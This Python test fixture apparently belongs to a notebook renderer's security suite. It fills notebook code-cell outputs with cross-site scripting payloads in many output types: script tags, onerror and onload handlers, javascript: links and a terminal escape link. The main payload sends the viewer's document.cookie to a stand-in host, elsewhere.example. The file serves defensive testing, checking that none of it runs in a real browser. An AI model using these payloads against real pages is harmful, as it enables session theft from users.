"""Stores outputs with scripts for the browser of whoever looks at them"""

from nbformat import NotebookNode
from nbformat.v4 import new_output

from tests.attacks.attack import Attack

_SCRIPT = "<script>window.ran = 1; fetch('http://elsewhere.example/?' + document.cookie)</script>"
_EVENT = "<img src=x onerror=\"window.ran = 1; fetch('http://elsewhere.example/e')\">"


def edit(notebook: NotebookNode) -> None:
    kinds = {
        "text/html": _SCRIPT + _EVENT,
        "application/javascript": "window.ran = 1",
        "image/svg+xml": f"<svg xmlns='http://www.w3.org/2000/svg' onload='window.ran = 1'>{_SCRIPT}</svg>",
        "text/latex": f"$$ {_SCRIPT} $$",
        "text/markdown": _SCRIPT + _EVENT + "[x](javascript:window.ran=1)",
        "image/png": "x' onerror='window.ran = 1",
        "text/plain": _SCRIPT,
        "application/vnd.jupyter.widget-view+json": {"model_id": "</script>" + _SCRIPT},
    }
    for cell in notebook.cells:
        if cell.cell_type == "code":
            cell.outputs = [new_output("display_data", data={kind: data}) for kind, data in kinds.items()]
            cell.outputs.append(new_output("stream", name="stdout", text=f"\x1b[31m{_SCRIPT}\x1b]8;;javascript:1\x07"))
            cell.outputs.append(new_output("error", ename=_SCRIPT, evalue=_EVENT, traceback=[_SCRIPT, _EVENT]))


ATTACK = Attack(
    "harm", edit=edit, in_page=True, contained="In a real browser no script of it runs and no request leaves."
)
